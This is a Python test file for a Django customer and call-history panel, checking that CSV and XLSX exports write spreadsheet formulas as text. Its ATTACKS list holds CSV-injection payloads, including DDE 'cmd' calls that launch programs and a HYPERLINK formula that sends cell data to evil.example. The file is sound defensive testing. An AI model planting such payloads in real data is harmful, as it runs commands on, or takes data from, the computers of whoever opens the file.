"""Spreadsheet formulas smuggled in through data (CSV injection): a customer file with `=cmd|…`
cells imports as typed, and every export the panel offers writes such cells so that a spreadsheet
shows them as text — the customers (admin, CSV and XLSX) and the call history (CSV and XLSX, where
the PBX's user field is also outside data). (Re-importing an export unchanged:
tests/customers/test_import_export.py.)"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import openpyxl
import pytest
import tablib
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from calls.cdr_sync import sync_recent
from customers.models import Customer

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("live_redis")]

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Our own phone numbers (`+905321234567`, `; `-separated): a spreadsheet reads them as numbers.
E164 = re.compile(r"\+\d{6,15}(; \+\d{6,15})*")


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def imported(sam) -> list[Customer]:
    rows = [
        [attack, attack, f"0532 123 45 {index:02d}", "", attack]
        for index, attack in enumerate(ATTACKS)
    ]
    upload = io.BytesIO(
        tablib.Dataset(*rows, headers=["name", "company", "phone", "email", "notes"]).csv.encode()
    )
    upload.name = "attack.csv"
    response = logged_in(sam).post(reverse("admin:customers_customer_import"), {"file": upload})
    assert response.context["report"].problems == []
    return list(Customer.objects.all())


def test_an_imported_formula_is_kept_as_typed(imported):
    assert sorted(c.name for c in imported) == sorted(a.strip() for a in ATTACKS)


def _export_customers(client: Client, file_format: str) -> list[list[str]]:
    formats = {"csv": "0", "xlsx": "1"}
    fields = {
        f"customerresource_{name}": "on"
        for name in ["id", "name", "company", "phone", "email", "notes"]
    }
    response = client.post(
        reverse("admin:customers_customer_export"),
        {"format": formats[file_format], "resource": "0", **fields},
    )
    assert response.status_code == 200
    if file_format == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [
        ["" if c is None else str(c) for c in row]
        for row in sheet.iter_rows(min_row=2, values_only=True)
    ]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_customer_export_writes_formulas_as_text(imported, sam, file_format):
    rows = _export_customers(logged_in(sam), file_format)
    assert len(rows) == len(ATTACKS)
    cells = [cell for row in rows for cell in row]
    runnable = [c for c in cells if c.startswith(FORMULA_START) and not E164.fullmatch(c)]
    assert runnable == [], "cells a spreadsheet would run"
    assert {"'" + a.strip() for a in ATTACKS} <= set(cells)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_call_history_export_writes_formulas_as_text(imported, pbx_settings, sam, file_format):
    now = timezone.now()
    customer = imported[0]
    number = customer.phones.get().number.lstrip("+")
    pbx_settings.sim.add_cdr(
        number, "110", started_at=now - timedelta(minutes=3), userfield="=cmd|' /C calc'!A0"
    )
    sync_recent()

    response = logged_in(sam).get(reverse("calls:history"), {"export": file_format})

    if file_format == "csv":
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        [row] = list(csv.DictReader(io.StringIO(text)))
        customer_cell, userfield_cell = row["customer"], row["userfield"]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        header = [c.value for c in sheet[1]]
        values = [c.value for c in sheet[2]]
        customer_cell = values[header.index("customer")]
        userfield_cell = values[header.index("userfield")]
    assert customer_cell == "'" + customer.name
    assert userfield_cell == "'=cmd|' /C calc'!A0"
